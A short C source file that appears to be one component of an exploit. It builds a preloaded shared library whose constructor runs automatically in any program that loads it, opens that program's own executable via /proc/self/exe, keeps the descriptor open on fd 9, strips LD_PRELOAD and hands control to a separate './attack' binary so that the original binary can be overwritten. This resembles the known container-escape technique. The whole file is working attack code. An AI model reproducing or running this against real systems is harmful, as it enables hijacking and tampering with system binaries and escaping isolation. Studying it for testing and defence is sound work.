/* A library that takes hold of whatever program it is loaded into, and looks whether it can write that. */
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void go(void)
{
	char *const argv[] = {"attack", "reopen", NULL};
	const int fd = open("/proc/self/exe", O_RDONLY);

	if (fd < 0 || dup2(fd, 9) < 0)
		return;
	(void)unsetenv("LD_PRELOAD");
	(void)execv("./attack", argv);
}
